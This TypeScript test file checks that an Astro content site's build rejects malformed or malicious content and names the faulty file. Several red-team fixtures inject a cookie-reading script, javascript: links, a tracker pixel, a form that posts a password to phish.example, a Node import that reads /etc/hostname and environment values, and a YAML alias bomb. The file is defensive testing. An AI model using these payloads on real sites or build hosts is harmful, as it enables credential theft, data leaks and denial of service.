/**
 * A corpus of broken content, the mistakes a trainer can make in content/. Each one must fail
 * the build with a message that names the file and what is wrong, before any stack trace.
 * Each case builds its own copy of the project (test/support/astro-cli.ts).
 */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { projectCopy, runAstro } from '../support/astro-cli';
import { filesUnder } from '../support/built-files';

type Edit = (file: (path: string, change: (text: string) => string) => void, root: string) => void;

interface BrokenInput {
  name: string;
  edit: Edit;
  /** The file the message must name, relative to content/. */
  file: string;
  /** What the message must say is wrong. */
  message: RegExp;
}

const replace = (from: RegExp | string, to: string) => (text: string) => {
  const changed = text.replace(from, to);
  if (changed === text) throw new Error(`the fixture edit found no ${from}`);
  return changed;
};

const aCase = 'cases/alibaba-l1-manager-insults-staff.yaml';
const guideEn = 'pages/en/running-a-session.mdx';

const corpus: BrokenInput[] = [
  { name: 'YAML that does not parse', file: aCase, message: /missed comma between flow collection entries/, edit: (f) => f(aCase, replace(/^level: 1$/m, 'level: [1')) },
  { name: 'a missing English text', file: aCase, message: /text\.en|text: .*en/, edit: (f) => f(aCase, replace(/^(text:\n  zh-hant: .*\n)  en: .*$/m, '$1')) },
  { name: 'an empty Chinese title', file: aCase, message: /title\.zh-hant|must not be empty/, edit: (f) => f(aCase, replace(/^(title:\n  zh-hant:) .*$/m, "$1 ''")) },
  { name: 'a level outside 1-5', file: aCase, message: /level: levels run from 1 to 5/, edit: (f) => f(aCase, replace(/^level: 1$/m, 'level: 7')) },
  { name: 'a misspelt verdict', file: aCase, message: /verdict/, edit: (f) => f(aCase, replace(/^verdict: falls-short$/m, 'verdict: fails')) },
  { name: 'a misspelt field', file: aCase, message: /levle|[Uu]nrecognized/, edit: (f) => f(aCase, replace(/^level: 1$/m, 'levle: 1')) },
  {
    name: 'a case that names a level its rubric lacks',
    file: 'cases/alibaba-l4-photo-shoot.yaml',
    message: /level: rubric "alibaba-customer-first" has no level 4/,
    edit: (f) => f('rubrics/alibaba-customer-first.yaml', (t) => t.slice(0, t.indexOf('- level: 4'))),
  },
  { name: 'a case of an unknown rubric', file: aCase, message: /rubric: unknown rubric "teamwork"/, edit: (f) => f(aCase, replace(/^rubric: .*$/m, 'rubric: teamwork')) },
  { name: 'an unknown source', file: aCase, message: /source: unknown source "nowhere"/, edit: (f) => f(aCase, replace(/^source: .*$/m, 'source: nowhere')) },
  { name: 'an unknown theme', file: aCase, message: /themes\.0: unknown theme "speed"/, edit: (f) => f(aCase, replace(/^- respect$/m, '- speed')) },
  {
    name: 'a duplicate paragraph id',
    file: 'speech/jd-2013-customer-first.yaml',
    message: /body\.paragraphs\.17\.id: duplicate id "p17"/,
    edit: (f) => f('speech/jd-2013-customer-first.yaml', replace(/^  - id: p18$/m, '  - id: p17')),
  },
  {
    name: 'a glossary term pointing at a paragraph that does not exist',
    file: 'glossary/inn-waiter.yaml',
    message: /paragraph: no paragraph "p99" in the speech/,
    edit: (f) => f('glossary/inn-waiter.yaml', replace(/^paragraph: p7$/m, 'paragraph: p99')),
  },
  {
    name: 'rubric levels out of order',
    file: 'rubrics/alibaba-customer-first.yaml',
    message: /levels must be listed in order/,
    edit: (f) => f('rubrics/alibaba-customer-first.yaml', replace(/^- level: 2$/m, '- level: 3')),
  },
  {
    name: 'a half point worth a whole point',
    file: 'rubrics/alibaba-customer-first.yaml',
    message: /halfPoint\.points/,
    edit: (f) => f('rubrics/alibaba-customer-first.yaml', replace(/^    points: 0\.5$/m, '    points: 1')),
  },
  {
    name: 'a gap-filling source that says nothing of what it fills',
    file: 'sources/youlu-3070989.yaml',
    message: /fills/,
    edit: (f) => f('sources/youlu-3070989.yaml', (t) => t.slice(0, t.indexOf('fills:'))),
  },
  {
    name: 'a speech date that is no date',
    file: 'speech/jd-2013-customer-first.yaml',
    message: /date/,
    edit: (f) => f('speech/jd-2013-customer-first.yaml', replace(/^date: .*$/m, "date: '18 March'")),
  },
  {
    name: 'a value statement quoting a missing paragraph',
    file: 'values/jd.yaml',
    message: /featured\.statements\.\d\.paragraph: no paragraph "p40"/,
    edit: (f) => f('values/jd.yaml', replace(/paragraph: p9$/m, 'paragraph: p40')),
  },
  {
    name: 'a theme without its English name',
    file: 'themes.yaml',
    message: /en/,
    edit: (f) => f('themes.yaml', replace(/^  en: Respect$/m, '')),
  },
  {
    name: 'guide front matter that does not parse',
    file: guideEn,
    message: /missed comma between flow collection entries/,
    edit: (f) => f(guideEn, replace(/^page: running-a-session$/m, 'page: [running')),
  },
  {
    name: 'a guide page without its page id',
    file: guideEn,
    message: /page/,
    edit: (f) => f(guideEn, replace(/^page: running-a-session\n/m, '')),
  },
  {
    name: 'a guide page in one locale only',
    file: 'pages/zh-hant',
    message: /page "first-week" is missing in this locale/,
    edit: (_, root) =>
      writeFileSync(join(root, 'content', 'pages/en/first-week.mdx'), '---\ntitle: Your first week\ndescription: What to read first.\npage: first-week\n---\n\nRead the speech.\n'),
  },
  {
    name: 'a guide page that embeds an unknown case',
    file: guideEn,
    message: /line \d+: <CaseCard> names unknown case "no-such-case"/,
    edit: (f) => f(guideEn, (t) => `${t}\n<CaseCard id="no-such-case" />\n`),
  },
  {
    name: 'a quiz embed that names no rubric',
    file: guideEn,
    message: /line \d+: <CaseQuiz> must name its rubric/,
    edit: (f) => f(guideEn, replace('<CaseQuiz rubric="alibaba-customer-first" level={1} />', '<CaseQuiz level={1} />')),
  },
  {
    name: 'a quiz embed that names an unknown rubric',
    file: guideEn,
    message: /line \d+: <CaseQuiz> names unknown rubric "teamwork"/,
    edit: (f) => f(guideEn, replace('rubric="alibaba-customer-first"', 'rubric="teamwork"')),
  },
  {
    name: 'a quiz embed that names a level its rubric lacks',
    file: guideEn,
    message: /line \d+: <CaseQuiz> names level 6, which rubric "alibaba-customer-first" lacks/,
    edit: (f) => f(guideEn, replace('level={1}', 'level={6}')),
  },
  {
    name: 'two quizzes of the same rubric and level on one page',
    file: guideEn,
    message: /line \d+: a second <CaseQuiz> of the same rubric and level/,
    edit: (f) => f(guideEn, (t) => `${t}\n<CaseQuiz level={1} rubric="alibaba-customer-first" />\n`),
  },
  {
    name: 'two rubrics with one id',
    file: 'rubrics/alibaba-customer-first.yaml',
    // Whichever check sees it first (the loader's id check, or Astro's own), in whichever order the files are read.
    message: /id "alibaba-customer-first" is already the id of content\/rubrics\/|multiple entries with the same slug: `alibaba-customer-first`/,
    edit: (_, root) =>
      writeFileSync(
        join(root, 'content', 'rubrics/Alibaba-Customer-First.yaml'),
        readFileSync(join(root, 'content', 'rubrics/alibaba-customer-first.yaml'), 'utf8'),
      ),
  },
  {
    name: 'a guide page that links to a missing page',
    file: guideEn,
    message: /link "\.\.\/\.\.\/no-such-page\/" leads to no page/,
    edit: (f) => f(guideEn, (t) => `${t}\nSee [the missing page](../../no-such-page/).\n`),
  },
  // The red team's content authoring faults (shared/reviews/red-team-1.md §4), A3 to A14.
  {
    name: 'A3: a guide page with an unclosed component',
    file: guideEn,
    message: /does not parse as MDX/,
    edit: (f) => f(guideEn, (t) => `${t}\n<CaseCard id="alibaba-l2-night-duty-care"\n`),
  },
  {
    name: 'A4: a guide page with a script',
    file: guideEn,
    message: /line \d+: <script> is not allowed in a guide page/,
    edit: (f) => f(guideEn, (t) => `${t}\n<script>alert(document.cookie)</script>\n`),
  },
  {
    name: 'A4: a guide page with javascript: links',
    file: guideEn,
    message: /line \d+: link "javascript:alert\(1\)" would run code[\s\S]*line \d+: <a> is not allowed/,
    edit: (f) => f(guideEn, (t) => `${t}\n[Open](javascript:alert(1))\n\n<a href="javascript:alert(2)">Open</a>\n`),
  },
  {
    name: 'A4: a guide page with a remote frame, a remote image and an off-site form with a password field',
    file: guideEn,
    message: /line \d+: <iframe> is not allowed[\s\S]*line \d+: image "https:\/\/tracker\.example\/p\.png" is not on this site[\s\S]*line \d+: <form> is not allowed/,
    edit: (f) =>
      f(
        guideEn,
        (t) =>
          `${t}\n<iframe src="https://example.org/" />\n\n![pixel](https://tracker.example/p.png)\n\n<form action="https://phish.example/collect"><input type="password" name="p" /></form>\n`,
      ),
  },
  {
    name: 'A14: a guide page that imports a Node module and prints the build machine’s files and environment',
    file: guideEn,
    message: /line \d+: import and export are not allowed[\s\S]*line \d+: expressions in braces are not allowed/,
    edit: (f) =>
      f(guideEn, (t) => `${t}\nimport { readFileSync } from "node:fs";\n\nBuild machine: {readFileSync("/etc/hostname", "utf8")} env: {process.env.RED_TEAM_MARKER}\n`),
  },
  {
    name: 'A6: a case saved as .yml',
    file: 'cases/alibaba-l1-new-case.yml',
    message: /entries are \.yaml files; rename it to alibaba-l1-new-case\.yaml/,
    edit: (_, root) => writeFileSync(join(root, 'content', 'cases/alibaba-l1-new-case.yml'), readFileSync(join(root, 'content', aCase), 'utf8')),
  },
  {
    name: 'A7: a case in a subfolder',
    file: 'cases/2026/alibaba-l1-subfolder-case.yaml',
    message: /files in subfolders are not read; move it to content\/cases\//,
    edit: (_, root) => {
      mkdirSync(join(root, 'content', 'cases/2026'));
      writeFileSync(join(root, 'content', 'cases/2026/alibaba-l1-subfolder-case.yaml'), readFileSync(join(root, 'content', aCase), 'utf8'));
    },
  },
  {
    name: 'A8: two glossary terms with one English rendering',
    file: 'glossary/pass-through.yaml',
    message: /term\.en: "pass-through" is already the English rendering of content\/glossary\/|is already the English rendering of content\/glossary\/pass-through\.yaml/,
    edit: (_, root) =>
      writeFileSync(
        join(root, 'content', 'glossary/half-point-2.yaml'),
        readFileSync(join(root, 'content', 'glossary/half-point.yaml'), 'utf8').replace(/^  en: half point$/m, '  en: pass-through'),
      ),
  },
  {
    name: 'A9: a case of 2 MB (a page over its size budget)',
    file: aCase,
    message: /en\/cases\/alibaba-l1-manager-insults-staff\/index\.html: \d+ KB of HTML.*over the page budget/,
    edit: (f) => f(aCase, replace(/^(text:\n  zh-hant: .*\n  en:) .*$/m, `$1 '${noise(2 * 1024 * 1024)}'`)),
  },
  {
    name: 'A9: a case of 2 MB that compresses well (a page over its size before compression)',
    file: aCase,
    message: /en\/cases\/alibaba-l1-manager-insults-staff\/index\.html: \d+ KB of HTML, over the page budget of 400 KB before compression/,
    edit: (f) => f(aCase, replace(/^(text:\n  zh-hant: .*\n  en:) .*$/m, `$1 '${'Customer first. '.repeat(128 * 1024)}'`)),
  },
  {
    name: 'A10: a case file saved in Big5',
    file: aCase,
    message: /is not UTF-8: it looks like Big5/,
    edit: (_, root) => writeFileSync(join(root, 'content', aCase), big5(readFileSync(join(root, 'content', aCase), 'utf8'))),
  },
  {
    name: 'A11: one stray Latin-1 byte',
    file: aCase,
    message: /is not UTF-8: line \d+ has the byte 0xE9/,
    edit: (_, root) => {
      const path = join(root, 'content', aCase);
      const text = readFileSync(path, 'utf8').replace(/^(title:\n  zh-hant: .*\n  en: )/m, '$1caf');
      const at = Buffer.byteLength(text.slice(0, text.indexOf('caf') + 3));
      writeFileSync(path, Buffer.concat([Buffer.from(text).subarray(0, at), Buffer.from([0xe9]), Buffer.from(text).subarray(at)]));
    },
  },
  { name: 'A12: a level written as text', file: aCase, message: /level: .*(number|string)/, edit: (f) => f(aCase, replace(/^level: 1$/m, 'level: "1"')) },
  {
    name: 'A13: a YAML alias bomb',
    file: aCase,
    message: /[Uu]nrecognized|alias|too many|exceed/,
    edit: (f) =>
      f(aCase, (t) => `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n${t}`),
  },
];

/** `length` characters of text that does not compress (a pasted document, not a repeated letter), without quotes or newlines. */
function noise(length: number): string {
  const letters = 'abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,';
  let seed = 1;
  let out = '';
  for (let i = 0; i < length; i++) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    out += letters[seed % letters.length];
  }
  return out;
}

/** `text` encoded in Big5 (Node encodes only UTF-8: the table is built by decoding every Big5 pair). */
function big5(text: string): Buffer {
  const decoder = new TextDecoder('big5');
  const table = new Map<string, number[]>();
  for (let lead = 0x81; lead <= 0xfe; lead++) {
    for (let trail = 0x40; trail <= 0xfe; trail++) {
      if (trail > 0x7e && trail < 0xa1) continue;
      const ch = decoder.decode(new Uint8Array([lead, trail]));
      if (!table.has(ch)) table.set(ch, [lead, trail]);
    }
  }
  const bytes = [...text].flatMap((ch) => (ch.charCodeAt(0) < 0x80 ? [ch.charCodeAt(0)] : (table.get(ch) ?? [0x3f])));
  return Buffer.from(bytes);
}

describe('broken content fails the build, naming the file and what is wrong', () => {
  test('the corpus holds at least 20 kinds of mistake', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(20);
  });

  test.each(corpus)('$name', { timeout: 180_000 }, ({ edit, file, message }) => {
    const root = projectCopy();
    try {
      edit((path, change) => writeFileSync(join(root, 'content', path), change(readFileSync(join(root, 'content', path), 'utf8'))), root);
      const { status, output } = runAstro(['build'], { OUT_DIR: join(root, 'dist') }, root);
      expect(status, output).not.toBe(0);
      const said = output.search(message);
      expect(said, output).toBeGreaterThanOrEqual(0);
      expect(output, output).toContain(`content/${file}`);
      const stack = output.search(/^\s+at /m);
      if (stack >= 0) {
        expect(said, 'the message comes before any stack trace').toBeLessThan(stack);
        expect(output.indexOf(`content/${file}`), 'the file is named before any stack trace').toBeLessThan(stack);
      }
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

test('A15: a build without SITE_URL warns, and no page names a development host as its address', { timeout: 300_000 }, () => {
  const root = projectCopy();
  try {
    const outDir = join(root, 'dist');
    const { status, output } = runAstro(['build'], { OUT_DIR: outDir, SITE_URL: '' }, root);
    expect(status, output).toBe(0);
    expect(output).toMatch(/SITE_URL is not set: the pages are built without canonical and hreflang links/);
    const pages = filesUnder(outDir).filter((f) => f.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(25);
    for (const page of pages) {
      const html = readFileSync(join(outDir, page), 'utf8');
      expect(html, page).not.toMatch(/<link rel="(?:canonical|alternate)"|localhost:4321/);
    }
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});
